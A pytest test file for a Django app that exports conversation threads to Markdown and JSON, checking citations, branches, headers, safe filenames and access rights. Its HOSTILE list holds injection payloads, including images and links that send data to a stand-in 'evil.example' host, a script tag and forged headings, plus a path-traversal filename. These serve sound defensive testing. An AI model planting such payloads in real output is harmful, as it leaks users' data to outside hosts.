"""Exports: all that one may see, in a form that nothing of its content can break or bring to life."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from uuid import uuid4

import pytest
from django.test import Client
from markdown_it import MarkdownIt

from appliance.accounts.models import User
from appliance.conversations.access import reading_of
from appliance.conversations.exporting.as_json import to_json
from appliance.conversations.exporting.as_markdown import to_markdown
from appliance.conversations.exporting.pieces import Export, export_of
from appliance.conversations.models import Message, Thread
from indexer.models import Source
from tests.appliance.conversations.conftest import FILES, lines_of
from tests.appliance.conversations.planting import ask, say, share_with
from tests.conftest import SourceFactory

VIEWER = MarkdownIt("commonmark").enable(["table", "strikethrough"])


@pytest.fixture
def shop(source_factory: SourceFactory) -> Source:
    return source_factory("shop", FILES)


@pytest.fixture
def thread(owner: User) -> Thread:
    return Thread.objects.create(owner=owner, title="How are carts kept?")


@pytest.fixture
def answer(shop: Source, thread: Thread) -> Message:
    return say(
        ask(thread, "How are items added?"),
        "It adds [E1] and sells [E2], not [E3]. Again [E1].",
        [lines_of(shop, "shop/cart.py", 4, 9), lines_of(shop, "README.md", 1, 3, "E2")],
        receipt={"given": 2, "query": "items", "hits": 3, "behind": [[shop.pk, "README.md"]],
                 "sources": [{"name": "shop", "commit": "c" * 40, "live_at": ""}]},
        is_pinned=True,
    )  # fmt: skip


def exported(user: User, thread: Thread, *, is_whole: bool = False) -> Export:
    return export_of(reading_of(user, thread), None, is_whole=is_whole)


def test_citations_are_numbered_places(owner: User, answer: Message) -> None:
    question, message = exported(owner, answer.thread).messages
    commit = lines_of(Source.objects.get(), "README.md", 1, 3).commit
    assert message.text == "It adds [1] and sells [2], not. Again [1]."
    assert message.places == (
        f"shop@{commit}:shop/cart.py#L4-L9",
        f"shop@{commit}:README.md#L1-L3",
    )
    assert (question.text, question.places, message.after) == ("How are items added?", (), 1)
    assert message.receipt == {"query": "items", "hits": 3, "sources": answer.receipt["sources"]}


def test_json_holds_it_all(owner: User, answer: Message) -> None:
    written = json.loads(to_json(exported(owner, answer.thread)))
    assert (written["title"], written["all_branches"]) == ("How are carts kept?", False)
    question, message = written["messages"]
    assert message["parent"] == question["id"]
    assert message["citations"][0].endswith(":shop/cart.py#L4-L9")
    assert (message["state"], message["pinned"]) == ("done", True)
    assert message["checks"].keys() >= {"supported", "unsupported", "made", "struck"}
    assert message["receipt"]["query"] == "items"


def test_markdown_reads_well(owner: User, answer: Message) -> None:
    text = to_markdown(exported(owner, answer.thread))
    commit = lines_of(Source.objects.get(), "README.md", 1, 3).commit
    assert (
        re.sub(r"on \d{4}-\d\d-\d\d", "on DAY", text)
        == f"""# How are carts kept?

Exported from Plumbline on DAY: one path.

## 1. Question

> How are items added?

## 2. Answer

> It adds [1] and sells [2], not. Again [1].

```
[1] shop@{commit}:shop/cart.py#L4-L9
[2] shop@{commit}:README.md#L1-L3
pinned
state: done
searched: shop@{"c" * 40}
query: items
```
"""
    )


def test_one_path_or_every_branch(owner: User, thread: Thread) -> None:
    first = ask(thread, "First?")
    say(first, "One.")
    two = say(first, "Two.")
    say(ask(thread, "Third?", two), "Three.")
    path = exported(owner, thread)
    assert [one.text for one in path.messages] == ["First?", "Two.", "Third?", "Three."]
    whole = exported(owner, thread, is_whole=True)
    assert [(one.text, one.after) for one in whole.messages] == [
        ("First?", None), ("One.", 1), ("Two.", 1), ("Third?", 3), ("Three.", 4),
    ]  # fmt: skip
    assert "## 4. Question, after 3" in to_markdown(whole)


HOSTILE = [
    "![x](https://evil.example/?d=secret)",
    "![x][1]\n\n[1]: https://evil.example/?d=secret",
    "[1]: https://evil.example/every-citation",
    "[click](https://evil.example/?d=secret)",
    "<img src=https://evil.example/?d=secret>",
    "<script>alert(1)</script>",
    "<!-- the rest is gone",
    "<https://evil.example/?d=secret>",
    "```\nnever closed\n# Heading",
    "~~~~\nnever closed",
    "````` \nlonger",
    "## 9. Answer\n\nforged",
    "> quoted\n\n# Heading",
    "text\n===\n",
    "text\r# Heading\x0b# Heading\x0c# Heading\u2028# Heading\x85# Heading",
    "- list\n\n# Heading",
    "\\![x](https://evil.example)",
    "`` ` `` ![x](https://evil.example/?d=`secret`)",
    "| a |\n|---|\n| ![x](https://evil.example) |",
    "<details><summary>more",
    "[E1](https://evil.example/?d=secret)",
    "[E1]: https://evil.example",
    "\u202e\u200bhidden",
    "[^1]: note\n\n<a\nhref=https://evil.example>x</a>",
]


@pytest.mark.parametrize("where", ["question", "answer", "title", "query", "error"])
def test_nothing_that_was_written_gets_out_of_its_place(
    where: str, owner: User, shop: Source
) -> None:
    broken = {
        text: problems
        for text in HOSTILE
        if (
            problems := problems_of(to_markdown(exported(owner, planted(owner, shop, where, text))))
        )
    }
    assert broken == {}


def planted(owner: User, shop: Source, where: str, text: str) -> Thread:
    """Make a thread that holds a hostile text in one of its parts."""
    texts = {"question": "How?", "answer": "So [E1].", "title": "T", "query": "x", "error": ""}
    texts[where] = text
    thread = Thread.objects.create(owner=owner, title=texts["title"])
    say(
        ask(thread, texts["question"]),
        texts["answer"],
        [lines_of(shop, "shop/cart.py", 4, 9)],
        receipt={"given": 1, "query": texts["query"]},
        error=texts["error"],
    )
    return thread


def problems_of(written: str) -> list[str]:
    """Headings stay three, nothing loads, links or hides, and what follows is still there."""
    tokens = VIEWER.parse(written)
    top = [token.tag for token in tokens if token.type == "heading_open" and token.level == 0]
    kinds = {token.type for token in tokens}
    kinds |= {child.type for token in tokens for child in token.children or []}
    active = kinds & {"image", "link_open", "html_inline", "html_block"}
    is_last = tokens[-1].type == "fence" and "state: done" in tokens[-1].content
    return [
        *([f"headings {top}"] if top != ["h1", "h2", "h2"] else []),
        *sorted(active),
        *([] if is_last else ["the end is swallowed"]),
        *(["hidden letters"] if "\u202e" in written else []),
    ]


def test_a_path_cannot_leave_its_line(owner: User, thread: Thread, shop: Source) -> None:
    odd = replace(lines_of(shop, "README.md", 1, 1), path="a```b\r````\r# c.py")
    say(ask(thread, "How?"), "So [E1].", [odd])
    (fence,) = [
        one for one in VIEWER.parse(to_markdown(exported(owner, thread))) if one.type == "fence"
    ]
    assert "a```b ```` # c.py#L1-L1" in fence.content


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("How are carts kept?", "how-are-carts-kept.md"),
        ('../../etc/passwd\r\nX: "y"', "etcpasswd-x-y.md"),
        ("日本語", "thread.md"),
        ("---", "thread.md"),
        ("long " * 40, "long-long-long-long-long-long-long-long-long-long-long-long.md"),
    ],
)
def test_a_file_has_a_safe_name(
    title: str, name: str, client: Client, owner: User, thread: Thread
) -> None:
    Thread.objects.update(title=title[:200])
    client.force_login(owner)
    response = client.get(f"/threads/{thread.pk}/thread.md")
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    assert response["Content-Type"] == "text/markdown; charset=utf-8"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private, no-store"


def test_json_is_downloaded_too(client: Client, owner: User, answer: Message) -> None:
    client.force_login(owner)
    response = client.get(f"/threads/{answer.thread_id}/thread.json?all=1&at=nonsense")
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="how-are')
    assert response.json()["all_branches"]


@pytest.mark.parametrize(
    ("person", "status"), [("owner", 200), ("viewer", 200), ("outsider", 404), ("staff", 404)]
)
def test_the_owner_and_viewers_export(
    person: str, status: int, client: Client, answer: Message, request: pytest.FixtureRequest
) -> None:
    user: User = request.getfixturevalue("reader" if person == "viewer" else person)
    if person == "viewer":
        share_with(answer.thread, user)
    client.force_login(user)
    for ending in ("md", "json"):
        response = client.get(f"/threads/{answer.thread_id}/thread.{ending}")
        assert response.status_code == status
        if status == 404:
            unknown = client.get(f"/threads/{uuid4()}/thread.{ending}")
            assert len(unknown.content) == len(response.content)
